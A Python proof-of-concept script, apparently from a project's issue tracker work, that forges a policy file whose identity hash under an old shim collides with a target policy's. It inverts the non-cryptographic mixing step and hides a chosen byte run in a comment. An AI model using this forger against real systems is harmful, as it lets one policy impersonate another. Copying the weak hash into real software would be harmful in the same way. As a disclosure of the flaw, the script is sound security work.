#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Forges a policy file whose identity under the OLD shim (71fda56's
policy_identity: FNV-1a of variable, value and explain flag, then a word-wise
multiply-xorshift of the file's bytes) equals a target policy's: the attack of
issue 11 item 4. The mixing step is invertible, so one chosen 8-byte run in a
comment steers the hash to any value; runs that are not valid comment bytes
(UTF-8, no control character) are retried with another counter in the comment.

usage: fnv-forge.py VAR VALUE TARGET-VALUE TARGET-FILE PREFIX-FILE OUT
  VALUE/OUT: the forged policy (PREFIX-FILE's text, then the comment);
  TARGET-VALUE/TARGET-FILE: the policy whose identity it takes.
Prints the number of tries and both identities."""
import sys

M = (1 << 64) - 1
K = 0x9e3779b97f4a7c15
KINV = pow(K, -1, 1 << 64)


def fnv(h, data):
    for b in data:
        h = ((h ^ b) * 0x100000001b3) & M
    return h


def step(h, w):
    h = ((h ^ w) * K) & M
    return h ^ (h >> 29)


def unstep(h, w):  # the h before step(h, w) gave this h
    x = h
    for _ in range(3):  # inverse of x ^= x >> 29
        x = h ^ (x >> 29)
    return ((x * KINV) & M) ^ w


def mix(h, data):
    i = 0
    while len(data) - i >= 8:
        h = step(h, int.from_bytes(data[i:i + 8], 'little'))
        i += 8
    tail = data[i:]
    w = (len(tail) << 56) | int.from_bytes(tail, 'little')
    return step(h, w)


def identity(var, value, data, explain=False):
    h = fnv(0xcbf29ce484222325, var.encode() + b'\0')
    h = fnv(h, value.encode() + b'\0')
    h = fnv(h, bytes([1 if explain else 0]))
    # the old shim read 4096 bytes at a time and mixed each read
    for i in range(0, max(len(data), 1), 4096):
        h = mix(h, data[i:i + 4096]) if data else h
    return h


def forge(var, value, target, prefix):
    base = fnv(0xcbf29ce484222325, var.encode() + b'\0')
    base = fnv(base, value.encode() + b'\0')
    base = fnv(base, b'\0')
    for tries in range(1, 1 << 20):
        head = prefix + b'; forged %d ' % tries
        head += b'x' * (-len(head) % 8)  # the chosen run starts on a word
        tail = b'\n'
        body_len = len(head) + 8 + len(tail)
        assert body_len < 4096
        h0 = base
        for i in range(0, len(head), 8):
            h0 = step(h0, int.from_bytes(head[i:i + 8], 'little'))
        # undo the tail's step from the target back to the state after the run
        w_tail = (len(tail) << 56) | int.from_bytes(tail, 'little')
        h1 = unstep(target, w_tail)
        w = unstep(h1, 0) ^ h0
        run = w.to_bytes(8, 'little')
        # a comment may hold tabs and printable text only (control
        # characters are errors since the parser was tightened)
        if any((b < 0x20 and b != 9) or b == 0x7f for b in run):
            continue
        try:
            run.decode('utf-8')
        except UnicodeDecodeError:
            continue
        return head + run + tail, tries
    raise SystemExit('no forgery found')


def main():
    var, value, tvalue, tfile, pfile, out = sys.argv[1:7]
    target = identity(var, tvalue, open(tfile, 'rb').read())
    data, tries = forge(var, value, target, open(pfile, 'rb').read())
    open(out, 'wb').write(data)
    got = identity(var, value, data)
    print('tries %d forged %016x target %016x' % (tries, got, target))
    sys.exit(0 if got == target else 1)


main()
